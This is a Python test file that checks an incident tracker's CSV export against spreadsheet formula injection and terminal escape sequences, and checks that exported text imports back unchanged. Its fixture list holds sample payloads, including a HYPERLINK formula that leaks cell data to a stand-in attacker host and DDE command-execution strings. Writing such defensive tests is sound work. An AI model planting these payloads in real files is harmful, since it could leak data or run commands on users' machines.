"""CSV that a spreadsheet will not evaluate and a terminal will not obey, and that
`import` reads back to the original text, byte for byte (docs/reference/formats.md#csv)."""

from __future__ import annotations

import csv
import io
import itertools
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from inctrack.clock import FixedClock
from inctrack.records import csv_original, csv_text
from inctrack.storage import Database

from .helpers import BACKENDS, PG_URL, START, Cli, Desk, ok

NASTY = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'already quoted",
    "''",
    "red \x1b[31malert\x1b[0m",
    "clear \x9b2J screen",
    r"C:\temp\x41 and \\server",
    "del\x7fete",
    "tab\tinside",
]


@pytest.fixture
def new_db(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Callable[[str], str]]:
    """Fresh, empty databases on demand: a SQLite file or a new PostgreSQL schema."""
    from sqlalchemy import text

    schemas: list[str] = []

    def make(backend: str) -> str:
        if backend == "sqlite":
            return str(tmp_path / f"fresh-{uuid.uuid4().hex[:8]}.db")
        schema = f"t_{uuid.uuid4().hex[:12]}"
        with request.getfixturevalue("pg_server").connect() as connection:
            connection.execute(text(f'CREATE SCHEMA "{schema}"'))
        schemas.append(schema)
        separator = "&" if "?" in str(PG_URL) else "?"
        return f"{PG_URL}{separator}options=-csearch_path%3D{schema}"

    yield make
    for schema in schemas:
        with request.getfixturevalue("pg_server").connect() as connection:
            connection.execute(text(f'DROP SCHEMA "{schema}" CASCADE'))


def nasty_desk(url: str) -> None:
    database = Database.open(url)
    desk = Desk(database, FixedClock(START))
    try:
        desk.services("-svc")  # a service name a spreadsheet would read as a formula
        for number, title in enumerate(NASTY, start=1):
            desk("log", title, reporter=NASTY[(number + 3) % len(NASTY)],
                 description=f"{title}\r\nsecond line\n=2+2", service="-svc")  # fmt: skip
            desk("note", number, NASTY[(number + 7) % len(NASTY)])
    finally:
        database.dispose()


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_no_cell_starts_like_a_formula_or_holds_a_control_character(tmp_path: Path) -> None:
    url = str(tmp_path / "desk.db")
    nasty_desk(url)
    cli = Cli(url)
    for args in (["list", "-f", "csv"], ["export", "-f", "csv"], ["show", "1", "-f", "csv"]):
        rows = cells(ok(cli(*args)))
        assert len(rows) > 1
        for cell in itertools.chain.from_iterable(rows):
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (args, cell)
            assert not any(
                (ord(c) < 32 and c not in "\t\n") or 0x7F <= ord(c) <= 0x9F for c in cell
            )
    listed = {row[1] for row in cells(ok(cli("list", "-f", "csv")))[1:]}
    assert "'=cmd|' /C calc'!A0" in listed
    assert "'red \\x1b[31malert\\x1b[0m" in listed
    assert "''already quoted" in listed
    assert r"C:\temp\x41 and \\server" in listed  # nothing to escape: left as it is


def test_numbers_are_not_text_and_stay_numbers(tmp_path: Path) -> None:
    url = str(tmp_path / "desk.db")
    nasty_desk(url)
    header, *rows = cells(ok(Cli(url)("list", "-f", "csv", "--status", "new")))
    tier = header.index("tier")
    assert {row[tier] for row in rows} == {"1"}


PAIRS = list(itertools.product(BACKENDS, BACKENDS))


@pytest.mark.parametrize(("source", "target"), PAIRS, ids=[f"{a}-to-{b}" for a, b in PAIRS])
def test_nasty_text_survives_export_csv_and_import(
    source: str, target: str, new_db: Callable[[str], str], tmp_path: Path
) -> None:
    first = Cli(new_db(source))
    nasty_desk(first.db)
    path = tmp_path / "desk.csv"
    path.write_text(ok(first("export", "-f", "csv")), encoding="utf-8", newline="")
    second = Cli(new_db(target))
    ok(second("import", str(path)))
    assert second.json("export", "-f", "json") == first.json("export", "-f", "json")
    titles = [incident["title"] for incident in second.json("export", "-f", "json")]
    assert titles == NASTY


@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=30))
def test_escaping_is_one_to_one(text: str) -> None:
    escaped = csv_text(text)
    assert csv_original(escaped) == text
    assert escaped[:1] not in ("=", "+", "-", "@", "\t", "\r")
